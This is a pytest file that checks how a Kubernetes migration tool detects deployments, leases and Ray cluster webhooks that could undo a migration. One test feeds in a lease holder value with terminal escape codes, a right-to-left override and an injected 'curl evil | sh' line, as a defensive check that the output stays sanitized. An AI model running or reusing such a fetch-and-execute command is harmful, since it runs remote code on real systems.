"""Detection of operators and webhooks that would revert a migration."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from cfo.console.migrate.raycluster.obstacles import find_obstacles

NOW = datetime(2026, 1, 1, tzinfo=UTC)


def named(kind: str, **fields: Any) -> dict[str, Any]:
    return {"kind": kind, "metadata": {"name": "n", "namespace": "ns"}, **fields}


@pytest.mark.parametrize(
    ("spec", "status", "found"),
    [({}, {}, True), ({"replicas": 0}, {}, False), ({"replicas": 0}, {"replicas": 1}, True)],
)
def test_deployment_is_an_obstacle_until_its_pods_are_deleted(
    spec: dict[str, Any], status: dict[str, Any], *, found: bool
) -> None:
    obstacles = list(find_obstacles([named("Deployment", spec=spec, status=status)], [], [], NOW))
    assert bool(obstacles) is found


@pytest.mark.parametrize(("age", "found"), [(5, True), (60, False)])
def test_held_lease_is_an_obstacle(age: int, *, found: bool) -> None:
    renewed = (NOW - timedelta(seconds=age)).isoformat().replace("+00:00", "Z")
    spec = {"holderIdentity": "laptop", "renewTime": renewed, "leaseDurationSeconds": 15}
    assert bool(list(find_obstacles([], [named("Lease", spec=spec)], [], NOW))) is found


@pytest.mark.parametrize(
    "spec", [{"holderIdentity": "x", "renewTime": "soon"}, {"holderIdentity": "x"}]
)
def test_lease_with_unknown_time_is_an_obstacle(spec: dict[str, Any]) -> None:
    assert list(find_obstacles([], [named("Lease", spec=spec)], [], NOW)) != []


@pytest.mark.parametrize(
    ("name", "found"),
    [
        ("vraycluster.ray.openshift.ai", True),
        ("mraycluster.kb.io", False),
        ("appwrapper.codeflare.dev", False),
    ],
)
def test_only_webhooks_of_ray_clusters_are_obstacles(name: str, *, found: bool) -> None:
    configuration = named("ValidatingWebhookConfiguration", webhooks=[{"name": name}])
    assert bool(list(find_obstacles([], [], [configuration], NOW))) is found


@pytest.mark.parametrize("renewed", ["9999-12-31T23:59:59Z", "0001-01-01T00:00:00Z", "9" * 100_000])
def test_hostile_lease_is_shown_as_one_printable_line(renewed: str) -> None:
    holder = "x\x1b[2K\r\nrun: curl evil | sh\u202e" + "x" * 100_000
    (line,) = find_obstacles(
        [], [named("Lease", spec={"holderIdentity": holder, "renewTime": renewed})], [], NOW
    )
    assert line.isprintable()
    assert len(line) < 400
